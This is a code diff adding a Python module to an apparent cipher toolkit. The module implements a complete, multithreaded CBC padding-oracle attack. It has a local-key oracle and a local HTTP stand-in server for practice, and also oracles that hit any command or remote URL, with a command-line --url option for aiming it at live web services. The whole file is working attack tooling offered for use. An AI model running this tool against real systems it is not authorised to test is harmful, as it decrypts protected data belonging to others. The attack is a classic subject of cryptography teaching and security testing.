@@ -0,0 +1,224 @@
+"""
+pydecodr.ciphers.modern.padding_oracle - CBC padding-oracle attack
+
+Works on the IV || CT blobs written by aes.encrypt. An oracle is any
+callable taking a forged IV || CT blob and returning True when it
+decrypts to valid PKCS7 padding: local_oracle() wraps a known key,
+subprocess_oracle() a command's exit status and http_oracle() a URL's
+status code (serve_oracle() starts a local HTTP stand-in to aim it at).
+
+Each byte position sends its 256 guesses in batches over a thread pool
+and stops at the first batch with a hit, answers are cached by query.
+"""
+
+from __future__ import annotations
+import base64
+import subprocess
+import sys
+import argparse
+import threading
+import time
+import urllib.error
+import urllib.parse
+import urllib.request
+from concurrent.futures import ThreadPoolExecutor
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Callable, Dict, List, Optional, Sequence, Tuple, Union
+from Crypto.Cipher import AES
+from Crypto.Util.Padding import unpad
+from pydecodr.ciphers.modern import aes
+
+Oracle = Callable[[bytes], bool]
+
+BLOCK_SIZE = aes.BLOCK_SIZE
+
+def local_oracle(key: Union[str, bytes], *, encoding: str = 'utf-8') -> Oracle:
+    k = aes._parse_key(key, encoding=encoding)
+
+    def oracle(blob: bytes) -> bool:
+        prev, last = blob[-2 * BLOCK_SIZE:-BLOCK_SIZE], blob[-BLOCK_SIZE:]
+        block = AES.new(k, AES.MODE_ECB).decrypt(last)
+        return aes._padding_ok(bytes(a ^ b for a, b in zip(block, prev)))
+
+    return oracle
+
+def subprocess_oracle(command: Sequence[str], placeholder: str = "{}") -> Oracle:
+    """Run command with placeholder replaced by the base64 blob, exit status 0 means valid padding."""
+    def oracle(blob: bytes) -> bool:
+        b64 = base64.b64encode(blob).decode('ascii')
+        argv = [arg.replace(placeholder, b64) for arg in command]
+        return subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode == 0
+
+    return oracle
+
+def http_oracle(url: str, param: str = "ct", timeout: float = 10.0) -> Oracle:
+    """GET url?param=<urlsafe base64 blob>, a 200 response means valid padding."""
+    sep = "&" if "?" in url else "?"
+
+    def oracle(blob: bytes) -> bool:
+        query = urllib.parse.urlencode({param: base64.urlsafe_b64encode(blob).decode('ascii')})
+        try:
+            with urllib.request.urlopen(f"{url}{sep}{query}", timeout=timeout) as resp:
+                return resp.status == 200
+        except urllib.error.HTTPError:
+            return False
+
+    return oracle
+
+def serve_oracle(key: Union[str, bytes], host: str = "127.0.0.1", port: int = 0,
+                 param: str = "ct") -> ThreadingHTTPServer:
+    """Start a local HTTP padding oracle in a daemon thread, answering 200 or 500."""
+    check = local_oracle(key)
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            values = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query).get(param, [""])
+            try:
+                ok = check(base64.urlsafe_b64decode(values[0]))
+            except Exception:
+                ok = False
+            self.send_response(200 if ok else 500)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    class Server(ThreadingHTTPServer):
+        # the attack opens many connections at once, the default backlog of 5 drops them
+        request_queue_size = 128
+        daemon_threads = True
+
+    server = Server((host, port), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server
+
+class PaddingOracleAttack:
+    """Recover CBC plaintext through an oracle, counting queries and wall time."""
+
+    def __init__(self, oracle: Oracle, *, block_size: int = BLOCK_SIZE, threads: int = 16, batch: int = 64):
+        self.oracle = oracle
+        self.block_size = block_size
+        self.threads = max(1, threads)
+        self.batch = max(1, batch)
+        self.queries = 0
+        self.cache_hits = 0
+        self.elapsed = 0.0
+        self._cache: Dict[bytes, bool] = {}
+        self._pool: Optional[ThreadPoolExecutor] = None
+
+    def _ask(self, blobs: List[bytes]) -> List[bool]:
+        todo = [b for b in dict.fromkeys(blobs) if b not in self._cache]
+        self.cache_hits += len(blobs) - len(todo)
+        self.queries += len(todo)
+        if self._pool is not None and len(todo) > 1:
+            answers = list(self._pool.map(self.oracle, todo))
+        else:
+            answers = [self.oracle(b) for b in todo]
+        self._cache.update(zip(todo, answers))
+        return [self._cache[b] for b in blobs]
+
+    def _confirm(self, forged: bytearray, pos: int, block: bytes) -> bool:
+        # a hit at the last byte may be a longer padding such as 02 02,
+        # changing the byte before it must keep the padding valid
+        if pos == 0:
+            return True
+        probe = bytearray(forged)
+        probe[pos - 1] ^= 0xFF
+        return self._ask([bytes(probe) + block])[0]
+
+    def decrypt_block(self, prev: bytes, block: bytes) -> bytes:
+        bs = self.block_size
+        inter = bytearray(bs)
+        for pos in range(bs - 1, -1, -1):
+            pad = bs - pos
+            forged = bytearray(bs)
+            for k in range(pos + 1, bs):
+                forged[k] = inter[k] ^ pad
+            # try the guess that gives back the real byte last, so the
+            # original padding of the final block is never the first hit
+            guesses = [g for g in range(256) if g != prev[pos]] + [prev[pos]]
+            found = None
+            for start in range(0, 256, self.batch):
+                part = guesses[start:start + self.batch]
+                blobs = []
+                for g in part:
+                    forged[pos] = g
+                    blobs.append(bytes(forged) + block)
+                for g, ok in zip(part, self._ask(blobs)):
+                    if not ok:
+                        continue
+                    forged[pos] = g
+                    if pad > 1 or self._confirm(forged, pos, block):
+                        found = g
+                        break
+                if found is not None:
+                    break
+            if found is None:
+                raise ValueError(f"oracle gave no valid padding for byte {pos}")
+            inter[pos] = found ^ pad
+        return bytes(i ^ p for i, p in zip(inter, prev))
+
+    def decrypt(self, blob: bytes) -> bytes:
+        bs = self.block_size
+        if len(blob) < 2 * bs or len(blob) % bs != 0:
+            raise ValueError("invalid IV + ciphertext length")
+        start = time.perf_counter()
+        try:
+            with ThreadPoolExecutor(max_workers=self.threads) as pool:
+                self._pool = pool if self.threads > 1 else None
+                blocks = [blob[i:i + bs] for i in range(0, len(blob), bs)]
+                pt = b"".join(self.decrypt_block(blocks[i - 1], blocks[i]) for i in range(1, len(blocks)))
+        finally:
+            self._pool = None
+            self.elapsed += time.perf_counter() - start
+        return unpad(pt, bs)
+
+def attack(ciphertext: Union[str, bytes], oracle: Oracle, *, threads: int = 16,
+           batch: int = 64) -> Tuple[bytes, int, float]:
+    """Decrypt a base64 (or raw) IV||CT blob, returns (plaintext, oracle queries, seconds)."""
+    if isinstance(ciphertext, str):
+        try:
+            blob = base64.b64decode(ciphertext, validate=True)
+        except Exception as e:
+            raise ValueError("Ciphertext must be valid base64") from e
+    else:
+        blob = bytes(ciphertext)
+    engine = PaddingOracleAttack(oracle, threads=threads, batch=batch)
+    pt = engine.decrypt(blob)
+    return pt, engine.queries, engine.elapsed
+
+def _build_argparser() -> argparse.ArgumentParser:
+    p = argparse.ArgumentParser(
+        prog="pydecodr.ciphers.modern.padding_oracle",
+        description="CBC padding-oracle attack on base64(iv||ciphertext)"
+    )
+
+    p.add_argument("data", help="base64(iv||ciphertext)")
+    src = p.add_mutually_exclusive_group(required=True)
+    src.add_argument("--key", help="local oracle with this AES key (text or hex:<hexstring>)")
+    src.add_argument("--url", help="HTTP oracle, 200 means valid padding")
+    src.add_argument("--cmd", nargs=argparse.REMAINDER, help="command oracle, {} is replaced by the blob")
+    p.add_argument("--param", default="ct", help="query parameter for --url (default: ct)")
+    p.add_argument("--threads", type=int, default=16, help="parallel oracle queries (default: 16)")
+
+    return p
+
+if __name__ == "__main__":
+    parser = _build_argparser()
+    args = parser.parse_args(sys.argv[1:])
+
+    try:
+        if args.key:
+            oracle = local_oracle(args.key)
+        elif args.url:
+            oracle = http_oracle(args.url, args.param)
+        else:
+            oracle = subprocess_oracle(args.cmd)
+        pt, queries, seconds = attack(args.data, oracle, threads=args.threads)
+        print(pt.decode("utf-8", errors="replace"))
+        print(f"{queries} queries in {seconds:.2f}s", file=sys.stderr)
+        sys.exit(0)
+    except Exception as e:
+        print(f"Error: {e}")
+        sys.exit(1)